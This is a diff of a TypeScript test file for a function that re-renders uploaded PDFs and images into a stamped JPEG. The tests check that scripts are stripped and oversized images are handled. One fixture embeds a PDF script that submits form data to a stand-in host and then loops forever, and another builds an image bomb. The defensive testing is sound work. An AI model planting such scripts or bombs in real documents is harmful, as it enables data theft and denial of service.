@@ -3,13 +3,13 @@ import { test } from 'node:test';
 import sharp from 'sharp';
 import { makePdf } from '../../../../test/corpus/pdf.ts';
 import { Refusal, type RefusalCode } from '../../../kernel/refusal.ts';
-import { readDocument } from './read-document.ts';
+import { makeAnew } from './make-anew.ts';
 
 const MARK = { site: 'lamps.example', day: '2026-11-22' };
 
 async function refused(bytes: Uint8Array, code: RefusalCode, because: RegExp): Promise<void> {
   await assert.rejects(
-    () => readDocument(bytes, MARK, null),
+    () => makeAnew({ bytes: bytes, mark: MARK }),
     (error: unknown) => {
       assert.ok(error instanceof Refusal, String(error));
       assert.equal(error.code, code);
@@ -20,7 +20,7 @@ async function refused(bytes: Uint8Array, code: RefusalCode, because: RegExp): P
 }
 
 test('the pages of a PDF file become one picture, and a JPEG is what is kept', async () => {
-  const kept = await readDocument(makePdf({ pages: 2, draws: '1 0 0 rg 0 0 595 842 re f' }), MARK, null);
+  const kept = await makeAnew({ bytes: makePdf({ pages: 2, draws: '1 0 0 rg 0 0 595 842 re f' }), mark: MARK });
   const { format, width = 0, height = 0 } = await sharp(kept).metadata();
   assert.equal(format, 'jpeg');
   assert.ok(height > 2 * width, 'two pages lie one below the other');
@@ -32,7 +32,7 @@ test('the pages of a PDF file become one picture, and a JPEG is what is kept', a
 test('a script in a PDF file is not run and not kept', async () => {
   const scripted = makePdf({ pages: 1, script: 'this.submitForm("http://192.0.2.1/CANARY"); while (true) {}' });
   assert.ok(scripted.includes('CANARY'));
-  const kept = await readDocument(scripted, MARK, null);
+  const kept = await makeAnew({ bytes: scripted, mark: MARK });
   assert.ok(!kept.includes('CANARY') && !kept.includes('JavaScript'));
 });
 
@@ -45,7 +45,7 @@ test('a PDF file with a picture larger than its memory may be is refused within 
   const bomb = makePdf({ pages: 1, picture: { width: 24_000, height: 12_000 } });
   assert.ok(bomb.byteLength < 5 * 1024 * 1024);
   // PDFium draws what it can without the picture, or says that it cannot: both are within the limit.
-  await readDocument(bomb, MARK, null).catch((error: unknown) => assert.ok(error instanceof Refusal));
+  await makeAnew({ bytes: bomb, mark: MARK }).catch((error: unknown) => assert.ok(error instanceof Refusal));
   assert.ok(process.memoryUsage().rss - before < 500 * 1024 * 1024);
 });
 
@@ -60,11 +60,11 @@ test('a kept document says for whom and when it was given, so that a copy serves
   const blank = await sharp({ create: { width: 800, height: 600, channels: 3, background: 'white' } })
     .png()
     .toBuffer();
-  const { channels } = await sharp(await readDocument(blank, MARK, null)).stats();
+  const { channels } = await sharp(await makeAnew({ bytes: blank, mark: MARK })).stats();
   assert.ok(
     channels.some(({ min }) => min < 220),
     'something is written over a blank page',
   );
-  const other = await readDocument(blank, { ...MARK, site: 'other.example' }, null);
-  assert.notDeepEqual(other, await readDocument(blank, MARK, null), 'and it names the site');
+  const other = await makeAnew({ bytes: blank, mark: { ...MARK, site: 'other.example' } });
+  assert.notDeepEqual(other, await makeAnew({ bytes: blank, mark: MARK }), 'and it names the site');
 });
